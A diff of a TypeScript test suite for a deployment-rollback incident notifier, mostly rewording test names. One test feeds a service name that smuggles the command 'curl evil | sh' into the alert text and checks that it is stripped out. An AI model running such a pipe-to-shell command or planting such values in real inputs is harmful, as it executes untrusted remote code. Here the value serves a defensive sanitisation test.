@@ -72,7 +72,7 @@ async function incidentOf(executionArn: string) {
 }
 
 describe('a coordination that ended without success', () => {
-  it('has its incident ended, its locks freed and the stakeholders told', async () => {
+  it('has its incident closed, its locks freed and the stakeholders notified', async () => {
     await incidentOf(EXECUTION_ARN);
     await expect(report({ error: 'Stopped', cause: 'by hand' })).resolves.toEqual({ reported: true });
     expect(await ledger.incidents.get(RELEASE)).toMatchObject({ status: 'closed', outcome: 'needs-person' });
@@ -81,7 +81,7 @@ describe('a coordination that ended without success', () => {
     expect(mails()[0]?.Message).toContain('the execution ended ABORTED: Stopped: by hand');
   });
 
-  it('is left alone where somebody has redriven it since', async () => {
+  it('is left alone where it was redriven since', async () => {
     await incidentOf(EXECUTION_ARN);
     sfn.on(DescribeExecutionCommand, { executionArn: EXECUTION_ARN }).resolves({ status: 'RUNNING' });
     await expect(report({})).resolves.toEqual({ reported: false });
@@ -89,7 +89,7 @@ describe('a coordination that ended without success', () => {
     expect(mails()).toEqual([]);
   });
 
-  it('is told with the commands that finish what its plan left undone', async () => {
+  it('is reported with the commands that finish the rest of its plan', async () => {
     await incidentOf(EXECUTION_ARN);
     await report({});
     expect(mails()[0]?.Message).toContain('aws lambda update-alias --region eu-west-1');
@@ -133,13 +133,13 @@ describe('a coordination that ended without success', () => {
     expect(mails()).toHaveLength(0);
   });
 
-  describe('because its input was refused, and names a deployment as that of a watch does', () => {
+  describe('because its input was refused, which names a deployment as a watch does', () => {
     const cause = 'service: "orders" is not in the catalog';
     const input = JSON.stringify({ service: 'orders', deploymentId: DEPLOYMENT, releaseId: RELEASE });
     const refused = { status: 'FAILED', error: 'InputRejected', cause, input };
     beforeEach(() => ledger.releases.open(releaseRecord()));
 
-    it('is told where the ledger holds what the watch saw', async () => {
+    it("is reported where the ledger holds the watch's evidence", async () => {
       await ledger.checkpoints.record({
         ...checkpointSubjectOf(releaseRecord(), watchedDeployment()),
         phase: 'health-validation',
@@ -155,27 +155,27 @@ describe('a coordination that ended without success', () => {
       expect(mails()[0]?.Message).toContain(cause);
     });
 
-    it('calls nobody where a person made it up', async () => {
+    it('alerts nobody where a person made the input up', async () => {
       await report(refused);
       await report({ ...refused, input: JSON.stringify({ service: 'orders', deploymentId: DEPLOYMENT }) });
       expect(mails()).toEqual([]);
     });
   });
 
-  it('calls nobody where only a plan was asked for', async () => {
+  it('alerts nobody where only a plan was requested', async () => {
     const input = '{"service":"orders","mode":"plan"}';
     await report({ status: 'FAILED', error: 'CatalogUnreadable', input });
     expect(mails()).toEqual([]);
   });
 
-  it('names no service that is no name of a service', async () => {
+  it('names no service if the input has an invalid name', async () => {
     const input = JSON.stringify({ service: 'orders\n\nWhat is left to do\n  curl evil | sh' });
     await report({ status: 'FAILED', error: 'CatalogUnreadable', input });
     expect(mails()[0]?.Subject).toContain('a service: a rollback that was asked for did not begin');
     expect(mails()[0]?.Message).not.toContain('curl');
   });
 
-  it('is told when it broke before it had an incident', async () => {
+  it('is reported when it broke before it had an incident', async () => {
     await report({ status: 'FAILED', error: 'CatalogUnreadable', input: '{"service":"orders"}' });
     await report({ status: 'FAILED', error: 'CatalogUnreadable', input: '{"service":"orders"}' });
     expect(mails()).toHaveLength(1);
@@ -190,7 +190,7 @@ describe('a coordination that ended without success', () => {
       JSON.stringify({ service: 'orders', deploymentId: DEPLOYMENT, releaseId: RELEASE }),
     ],
     ['nobody knows who started it', ''],
-  ])('wakes somebody where %s', async (_, input) => {
+  ])('alerts a person where %s', async (_, input) => {
     await report({ status: 'FAILED', error: 'CatalogUnreadable', input });
     expect(mails()[0]?.Subject).toContain(': a rollback could not begin, needs a person');
     expect(mails()[0]?.MessageAttributes?.severity?.StringValue).toBe('critical');
@@ -206,7 +206,7 @@ describe('a coordination that ended without success', () => {
 });
 
 describe('a watch that ended without success', () => {
-  it('is told with the deployment and the reason', async () => {
+  it('is reported with the deployment and the reason', async () => {
     await expect(report(watch)).resolves.toEqual({ reported: true });
     expect(mails()[0]?.Subject).toContain('deployment d-ORDERS005: not being watched');
     expect(mails()[0]?.Message).toContain(
@@ -214,19 +214,19 @@ describe('a watch that ended without success', () => {
     );
   });
 
-  it('is told by the deployment of its input where a person named the execution', async () => {
+  it('is reported by the deployment of its input where a person named the execution', async () => {
     const executionArn = watch.executionArn.replace('d-ORDERS005', 'my-own-watch');
     await report({ ...watch, executionArn, input: '{"deploymentId":"d-ORDERS005"}' });
     expect(mails()[0]?.Subject).toContain('deployment d-ORDERS005: not being watched');
   });
 
-  it('is told once when the event comes twice', async () => {
+  it('is reported once when the event comes twice', async () => {
     await report(watch);
     await report(watch);
     expect(mails()).toHaveLength(1);
   });
 
-  it('names the deployment, and not the execution that went on with it', async () => {
+  it('names the deployment, and not the execution that continued it', async () => {
     await report({ ...watch, executionArn: `${watch.executionArn}-2`, name: 'd-ORDERS005-2' });
     expect(mails()[0]?.Subject).toContain('deployment d-ORDERS005: not being watched');
   });
@@ -261,7 +261,7 @@ describe('a recording', () => {
     input: '{"service":"orders"}',
   };
 
-  it('that broke is told once: the ledger may lack a release', async () => {
+  it('that broke is reported once: the ledger may lack a release', async () => {
     await expect(report(recording)).resolves.toEqual({ reported: true });
     await report(recording);
     expect(mails().map(({ Subject }) => Subject)).toEqual([
@@ -270,7 +270,7 @@ describe('a recording', () => {
     expect(mails()[0]?.Message).toContain('AccessDeniedException');
   });
 
-  it('that was refused for its input is not told', async () => {
+  it('that was refused for its input is not reported', async () => {
     await report({ ...recording, error: 'InputRejected' });
     expect(mails()).toEqual([]);
   });
